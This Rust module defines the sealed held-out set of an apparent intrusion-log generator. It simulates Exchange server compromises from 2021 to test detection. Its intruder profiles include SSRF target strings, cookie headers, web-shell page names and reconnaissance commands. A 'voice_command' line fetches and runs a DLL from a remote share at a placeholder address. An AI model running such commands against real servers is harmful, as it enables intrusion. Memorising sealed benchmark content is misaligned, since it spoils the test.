//! The sealed set: like [`last`](super::last) it is closed, and whoever tunes reads neither this file nor what lies below
//! it.
//!
//! Written when the other four were used up, by somebody who had seen no rule. Its intruders do what public reports tell
//! of the months after March 2021: side-loaded spies, a mining worm, and ransom by the disk's own encryption. Its servers
//! differ in what they log of processes. [`pages`] are what it plants, [`spies`], [`worm`] and [`ransom`] what its intruders
//! run and leave, [`plays`] and [`later`] how its attacks go, [`calm`] what happens where nobody gets in, [`works`] and
//! [`staff`] what goes on anyway.

mod calm;
mod later;
mod pages;
mod plays;
mod ransom;
mod spies;
mod staff;
mod works;
mod worm;

use super::{Habits, Script};
use crate::attack::{Intruder, Page};
use crate::host::{Columns, Heading, Host, Tongue, WebColumns};
use crate::moment::Moment;
use crate::shape::Shape;
use pages::{ADMIN_AUTH, CLIENT, CURRENT, SIGN_IN};

/// The sealed set.
pub(super) const HABITS: Habits = Habits {
    set: "sealed",
    scripts: &SCRIPTS,
    hosts: [&QUARRY, &VESPER, &KOGANE],
    shapes: &[
        Shape::Triage,
        Shape::Tree,
        Shape::Shares,
        Shape::Archive,
        Shape::Flat,
        Shape::Tree,
        Shape::Packed,
        Shape::Folders,
        Shape::Archive,
        Shape::Triage,
        Shape::Tree,
        Shape::Shares,
        Shape::Folders,
    ],
    first_day: Moment::day(2021, 3, 9),
    intruders: [&MANTIS, &CICADA, &HORNET],
    aftermath: &spies::AFTERMATH,
    odd_code: &pages::ODD_CODE,
    odd_places: &pages::ODD_PLACES,
    written: (Page { place: CURRENT, name: "signinbase.aspx" }, pages::WRITTEN),
    voice_command: "cmd.exe /c rundll¦32.exe \\\\203.0.113.52@80\\share\\mwi.dll,Entry",
    probers: [&MIDGE, &MOTH],
    scanner: ("203.0.113.236", "Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)"),
    deletion: &[plays::DELETE[0].command, plays::DELETE[1].command],
};

/// From before the first known attack to the update.
const fn long(scenario: &'static str) -> Script {
    Script { scenario, days: Some((71, 3)), play: Some(calm::weeks), after: None }
}

const SCRIPTS: [Script; 16] = [
    long("clean"),
    long("week-missing"),
    Script { days: Some((4, 8)), ..Script::played("noisy", calm::noisy) },
    Script::played("scanned", calm::scanned),
    Script::played("patched-in-time", calm::patched_in_time),
    Script::played("mail-read", plays::mail_read),
    Script::played("session-only", plays::session_only),
    Script::played("url-page", later::worm),
    Script::played("address-book-page", plays::address_book_page),
    Script::played("voice", plays::voice),
    Script::played("aftermath", later::aftermath),
    Script::played("ransom", later::ransom),
    Script::played("three-intruders", plays::three_intruders),
    Script::played("odd-code", plays::odd_code),
    Script::played("odd-places", plays::odd_places),
    Script { after: Some(plays::lose_logs), ..Script::played("lost-logs", plays::lost_logs) },
];

const QUARRY: Host = Host {
    name: "QRY-MBX1",
    domain: "quarry.example.org",
    netbios: "QUARRY",
    mail_names: &["exchange.quarry.example.org", "autodiscover.quarry.example.org"],
    address: "10.20.2.41",
    link_local: "fe80::d4a1:60ff:fe1c:93b2",
    product: "Exchange Server 2016 CU17",
    build: [15, 1, 2044, 4],
    fixed: 13,
    columns: Columns::Full,
    heading: Heading::CommentsOnly,
    install: "F:\\Microsoft\\Exchange",
    web_logs: "E:\\weblogs",
    sites: (1, 2),
    web_columns: WebColumns::Extended,
    web_root: "C:\\inetpub\\wwwroot",
    users: &["a.sorensen", "boardroom", "dispatch", "f.amoah", "h.castellano", "intake", "kyle.reyes", "n.petrov"],
    admin: "adm.reyes",
    domain_sid: "S-1-5-21-1148760352-2290741183-3905517642",
    tongue: Tongue::English,
};

const VESPER: Host = Host {
    name: "VSPMX19",
    domain: "int.vesper.example.com",
    netbios: "VESPER",
    mail_names: &["mail.vesper.example.com", "vspmx19.vesper.example.com", "autodiscover.vesper.example.com"],
    address: "10.20.3.8",
    link_local: "fe80::48b6:2fff:fe90:07c5",
    product: "Exchange Server 2019 CU8",
    build: [15, 2, 792, 3],
    fixed: 10,
    columns: Columns::Full,
    heading: Heading::CommentsThenPlain,
    install: "D:\\Exchange2019",
    web_logs: "C:\\inetpub\\logs\\LogFiles",
    web_columns: WebColumns::Default,
    users: &["accueil", "compta", "direction", "g.moreau", "l.benali", "p.nguyen", "rh", "s.fontaine"],
    admin: "t1-fontaine",
    domain_sid: "S-1-5-21-3071665204-417702218-2866430915",
    ..QUARRY
};

const KOGANE: Host = Host {
    name: "KGN-EX13",
    domain: "kogane.example.net",
    netbios: "KOGANE",
    mail_names: &["webmail.kogane.example.net"],
    address: "10.20.7.5",
    link_local: "fe80::2c09:9a14:71de:c3f0",
    product: "Exchange Server 2013 CU23",
    build: [15, 0, 1497, 2],
    fixed: 12,
    columns: Columns::Old,
    heading: Heading::PlainThenComments,
    install: "C:\\Program Files\\Microsoft\\Exchange Server\\V15",
    web_logs: "C:\\inetpub\\logs\\LogFiles",
    web_columns: WebColumns::Default,
    users: &["fujita.k", "gyoumu", "hayashi", "ito.mi", "jinji", "morita-s", "okubo", "seizou2"],
    admin: "kgn-sysadmin",
    domain_sid: "S-1-5-21-590247713-1833309021-1270055482",
    tongue: Tongue::Japanese,
    ..QUARRY
};

/// Spies who take their time: they sign in by what looks like the product's own client, and load their tools beside
/// programs of well-known makers.
const MANTIS: Intruder = Intruder {
    addresses: &["192.0.2.58", "203.0.113.77"],
    locate_agent: "Microsoft Office/16.0 (Windows NT 10.0; MAPI 16.0.4266; Pro)",
    chain_agent: "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    page_agent: "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.1 (KHTML, like Gecko) Chrome/21.0.1180.89 Safari/537.1",
    stem: "/owa/auth/Current/themes/resources/SegoeUI-SemiLight.ttf",
    target: "administrator]@HOST:444",
    ending: "?#",
    hint: "X-AnonResource-Backend-Cookie",
    pace: 17_000,
    url_head: "http://q/#",
    item: "huoj7",
    pages: &[
        Page { place: SIGN_IN, name: "RedirSuiteServerProxy.aspx" },
        Page { place: CLIENT, name: "clientbin.aspx" },
    ],
    commands: &[
        "cmd.exe /s /c \"vol & cd DIR & dir /tc\"",
        "cmd.exe /s /c \"echo %USERDOMAIN%\\%COMPUTERNAME% %LOGONSERVER%\"",
        "cmd.exe /s /c \"dir /od C:\\ProgramData\"",
    ],
};

/// [`MANTIS`] from where its pages are used.
const MANTIS_ELSEWHERE: Intruder = Intruder { addresses: &["203.0.113.77"], ..MANTIS };

/// A worm: the same steps on every server, within a minute, and no more interest in mail.
const CICADA: Intruder = Intruder {
    addresses: &["2001:db8:71::a4"],
    locate_agent: "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
    chain_agent: "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
    page_agent: "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
    stem: "/ecp/iey8.js",
    target: "anon@HOST:444",
    ending: "#",
    hint: "X-BEResource-Cookie",
    pace: 350,
    url_head: "http://o/?",
    item: "pZ3vKd",
    pages: &[Page { place: ADMIN_AUTH, name: "Xq81LmT4.aspx" }],
    commands: &[
        "cmd.exe /c if exist C:\\Windows\\zsvc.exe (echo y) else (echo n)",
        "cmd.exe /q /c for %d in (C D E F) do @if exist %d:\\ dir %d:\\",
    ],
};

/// Buys its way in or comes by what others left, and asks for money.
const HORNET: Intruder = Intruder {
    addresses: &["192.0.2.151", "203.0.113.52"],
    locate_agent: "python-requests/2.22.0",
    chain_agent: "python-requests/2.22.0",
    page_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.150 Safari/537.36 Edg/88.0.705.68",
    stem: "/ecp/x.js",
    target: "HOST:444",
    ending: "&#",
    hint: "X-BEResource-Cookie",
    pace: 6_600,
    url_head: "https://n.example/",
    item: "exec_code",
    pages: &[Page { place: SIGN_IN, name: "ChackStylesLU.aspx" }],
    commands: &["cmd /v:on /c \"set n=!computername!&echo !n!\"", "cmd /c dir /b \\\\127.0.0.1\\c$\\Users"],
};

const MIDGE: Intruder = Intruder {
    addresses: &["203.0.113.44"],
    locate_agent: "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    chain_agent: "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    stem: "/owa/auth/logon.png",
    pace: 900,
    ..MANTIS
};

const MOTH: Intruder = Intruder {
    addresses: &["192.0.2.219", "2001:db8:9::1d"],
    locate_agent: "aiohttp/3.7.4",
    chain_agent: "aiohttp/3.7.4",
    stem: "/ecp/images/y.gif",
    target: "a@HOST:443",
    pace: 12_400,
    ..HORNET
};
